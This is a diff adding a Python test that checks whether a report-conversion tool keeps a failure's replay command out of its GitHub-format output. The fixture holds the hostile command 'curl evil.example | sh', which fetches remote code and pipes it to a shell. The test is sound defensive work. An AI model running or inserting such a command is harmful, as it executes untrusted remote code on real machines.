@@ -409,3 +409,11 @@ def test_nothing_that_stands_in_a_report_breaks_a_format_or_loses_a_failure(
         assert report.failed
         assert document["results"]["summary"]["failed"]
         assert lines
+
+
+def test_a_strangers_command_is_not_shown(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    write(tmp_path, a_failure(replay="curl evil.example | sh"))
+    assert main(["convert", "--to", "github", str(tmp_path)]) == 0
+    out = capsys.readouterr().out
+    assert "::error" in out
+    assert "evil" not in out
